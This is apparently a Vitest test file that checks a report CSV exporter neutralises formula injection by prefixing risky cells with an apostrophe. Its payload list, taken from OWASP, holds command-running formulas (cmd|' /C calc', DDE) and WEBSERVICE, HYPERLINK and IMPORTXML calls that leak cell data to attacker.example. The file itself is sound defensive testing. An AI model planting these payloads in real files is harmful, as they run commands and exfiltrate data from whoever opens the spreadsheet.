// Issue 11 finding 7: no text cell in a report CSV can run as a formula when the file is opened in a
// spreadsheet program. Payloads from the OWASP "CSV Injection" page and its usual companions.
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../main/import/csv';
import { csvField, neutralised } from '../../main/reports/csv-field';
import { tableCsv } from '../../main/reports/render';

const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-2+3+WEBSERVICE("http://attacker.example/?leak="&A1)',
  '=WEBSERVICE("http://attacker.example/?leak="&A1)',
  '+1+WEBSERVICE("http://attacker.example")',
  '@HYPERLINK("http://attacker.example","click")',
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=IMPORTXML(CONCAT("http://attacker.example?v=", CONCATENATE(A2:E2)), "//a")',
  '=IMPORTRANGE("https://docs.example/spreadsheets/d/x", "sheet1!A1:B2")',
  '=IMAGE("https://attacker.example/x.png")',
  "=10+20+cmd|' /C calc'!A0",
  '-1-1+cmd|\'/C calc\'!A0',
  '+-2+3',
  '-2+3',
  '-1e3+cmd',
  '\t=1+1',
  '\r=1+1',
  '\t',
  '\r',
  '\n=1+1',
  '  =1+1',
  '\uFF1D1+1',
  '\uFF0Bcmd',
  '\uFF0D2+3',
  '\uFF20SUM(1)',
];

const NUMBERS = ['0', '12', '-2', '+3', '-3.5', '.5', '-.5', '1e3', '-1E-3', '2026'];

describe('CSV fields', () => {
  it.each(OWASP_PAYLOADS)('neutralises %j so it is read back as text starting with an apostrophe', (payload) => {
    const [row] = parseCsv(`${csvField(payload)}\n`);
    expect(row!.cells).toEqual([`'${payload}`]);
  });

  it('leaves cells that are wholly a number as they are, as text and as numbers', () => {
    for (const text of NUMBERS) expect(neutralised(text)).toBe(text);
    expect(csvField(-2)).toBe('-2');
    expect(csvField(3.25)).toBe('3.25');
  });

  it('leaves ordinary text alone and quotes what needs quoting', () => {
    expect(csvField('Ana Ríos')).toBe('Ana Ríos');
    expect(csvField('a-b')).toBe('a-b');
    expect(csvField('x=1')).toBe('x=1');
    expect(csvField('say "hi", then go')).toBe('"say ""hi"", then go"');
    expect(csvField(undefined)).toBe('');
  });

  it('applies to every header and cell of a report table', () => {
    const csv = tableCsv({
      name: 't',
      title: 'T',
      columns: [
        { key: '=key', label: 'k' },
        { key: 'n', label: 'n' },
      ],
      rows: [{ '=key': '-2+3+WEBSERVICE("http://attacker.example")', n: -4 }],
      note: null,
    });
    expect(parseCsv(csv).map((r) => r.cells)).toEqual([
      ["'=key", 'n'],
      ['\'-2+3+WEBSERVICE("http://attacker.example")', '-4'],
    ]);
  });
});
